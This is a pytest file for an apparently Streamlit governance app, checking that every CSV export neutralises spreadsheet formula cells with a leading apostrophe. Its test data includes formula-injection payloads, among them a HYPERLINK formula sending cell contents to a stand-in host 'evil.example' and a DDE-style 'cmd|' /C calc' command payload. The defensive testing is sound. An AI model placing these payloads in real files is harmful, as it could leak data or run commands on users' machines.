"""Safe exports (issue 13, item 6): every CSV the product writes neutralises cells
that a spreadsheet would run as a formula (=, +, -, @, tab, carriage return),
with a leading apostrophe. All CSVs go through ``governance.csvfiles.to_csv``
(pages: ``common.csv_download``); the grid's own CSV export is switched off.
"""
from __future__ import annotations

import csv
import io
import re
import tomllib
from typing import Any

import pytest
import streamlit as st

from governance import services as sv
from governance.csvfiles import FORMULA_STARTS, neutralise_cell, to_csv
from governance.queries import pilots as pilots_q
from tests.apptest_support import PAGE_FILES, ROOT, app, ok, open_tab, pages_db
from tests.world import VERY, World

__all__ = ["pages_db"]  # the fixture, imported for pytest

EVIL = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
        "\t=1+1", "\r=1+1"]


def test_every_formula_start_is_neutralised_and_nothing_else_changes() -> None:
    for value in EVIL:
        assert neutralise_cell(value) == "'" + value
    for value in ("Plain text", "3 = 3", "a-b", "", 42, -5, 1.5, None):
        assert neutralise_cell(value) == value
    rows = list(csv.reader(io.StringIO(to_csv([{"=head": v, "n": -1, "ok": True} for v in EVIL])
                                       .decode("utf-8-sig"))))
    assert rows[0] == ["'=head", "n", "ok"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL]
    assert {r[1] for r in rows[1:]} == {"-1"} and {r[2] for r in rows[1:]} == {"yes"}


def test_no_page_writes_a_csv_but_through_the_one_helper() -> None:
    sources = {p: p.read_text(encoding="utf-8") for p in [ROOT / "dashboard.py", *sorted((ROOT / "pages").glob("*.py")),
                                                          *sorted((ROOT / "governance").rglob("*.py"))]}
    for path, text in sources.items():
        if path.name == "csvfiles.py":
            continue
        assert ".to_csv(" not in text and "csv.writer" not in text and "DictWriter" not in text, path
        if path.relative_to(ROOT).as_posix() != "pages/present.py":  # csv_download, the one helper
            assert "text/csv" not in text, path
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def formula_cells(data: bytes) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    return [c for c in cells if c[:1] in FORMULA_STARTS]


def test_every_csv_on_the_audit_page_is_neutralised(world: World, pages_db: Any, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A commissioner writes formulas into a claim, the metrics it cites and an amendment's
    reason; every CSV the auditor downloads carries them as text."""
    uow, c = world.uow, world.commissioner
    sv.adopt_charter(uow, world.steering, reason="A small clinic: five responses are enough.",
                     min_survey_responses=5)
    _, pilot = world.pilot_in_use(title=EVIL[1])
    world.pass_window()
    world.survey(pilot, [(m, VERY) for m in world.members])
    vote = sv.open_outcome_vote(uow, world.facilitator, pilot)
    for voter in (*world.panel_voters, c, world.steering):
        sv.cast_ballot(uow, voter, vote, "adopt")
    sv.close_vote(uow, world.facilitator, vote, statement="The result stands.")
    for statement in EVIL:
        sv.record_claim(uow, c, pilot, statement=statement + " — claimed", cited_metrics=[EVIL[0], EVIL[3]])
    metric = pilots_q.pilot_detail(uow, c, pilot).metrics[0].id
    sv.amend_metric(uow, c, metric, reason=EVIL[2] + " (a reason long enough)", target=90)
    captured: dict[str, bytes] = {}
    original = st.download_button

    def capture(label: str, data: Any, file_name: str | None = None, *args: Any, **kwargs: Any) -> Any:
        if file_name and file_name.endswith(".csv"):
            captured[file_name] = data if isinstance(data, bytes) else str(data).encode()
        return original(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", capture)
    at = ok(app(world.auditor).run())
    at = ok(at.switch_page(PAGE_FILES["audit"]).run())
    # Each tab computes (and offers its CSV) only when open: open them in turn.
    at = open_tab(at, "audit-tab", "Claims")
    at = open_tab(at, "audit-tab", "Amendments")
    at = ok(at.toggle(key="amend-after").set_value(True).run())
    at = open_tab(at, "audit-tab", "Event log")
    assert set(captured) == {"declarations.csv", "claims.csv", "amendments.csv", "audit-events-page.csv"}
    for name, data in captured.items():
        assert formula_cells(data) == [], name
    text = captured["claims.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text
    assert re.search(r"'-2\+3\+cmd", captured["amendments.csv"].decode("utf-8-sig"))


@pytest.mark.parametrize("value", EVIL)
def test_the_neutralised_text_reads_back_as_what_was_typed_less_the_apostrophe(value: str) -> None:
    [[cell]] = list(csv.reader(io.StringIO(to_csv([{"v": value}]).decode("utf-8-sig"))))[1:]
    assert cell == "'" + value  # a spreadsheet shows the text; the apostrophe is not shown
